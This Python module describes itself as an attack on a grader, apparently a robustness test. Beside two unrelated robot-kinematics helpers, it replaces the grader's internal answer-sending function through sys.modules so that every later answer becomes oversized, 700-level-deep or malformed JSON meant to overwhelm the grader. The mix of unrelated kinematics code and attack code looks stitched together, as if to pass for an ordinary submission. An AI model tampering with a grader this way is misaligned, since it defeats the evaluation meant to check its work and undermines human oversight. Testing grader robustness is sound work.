"""Attack: replace the worker's sending of answers, so that this answer and every later one is valid JSON
that is too large, too deep or too wide for the grader to hold (issue 22 items 1 and 2)."""
import os
import sys


def uni_to_diff(robot, v, w):
    R = robot.wheel_radius
    L = robot.wheel_base_length
    return (2 * v + w * L) / (2 * R), (2 * v - w * L) / (2 * R)


def diff_to_uni(robot, vel_r, vel_l):
    R = robot.wheel_radius
    L = robot.wheel_base_length
    return R / 2 * (vel_r + vel_l), R / L * (vel_r - vel_l)


def _answer_with(value: bytes):
    def send(fd, message):
        data = b'{"id":%d,"ok":true,"value":%s}\n' % (message['id'], value)
        while data:
            data = data[os.write(fd, data):]

    sys.modules['grader.inside.worker_loop']._send = send


def flood(size=4_000_000, **args):
    """Answers of `size` bytes: [[], [], ...], a list in the grader for every three bytes."""
    _answer_with(b'[' + b'[],' * (size // 3 - 12) + b'[]]')


def deep(levels=700, **args):
    """Answers nested `levels` lists deep."""
    _answer_with(b'[' * levels + b']' * levels)


def junk(**args):
    """A small answer with a field no answer has, holding a deep value."""
    _answer_with(b'0,"junk":' + b'[' * 700 + b']' * 700)
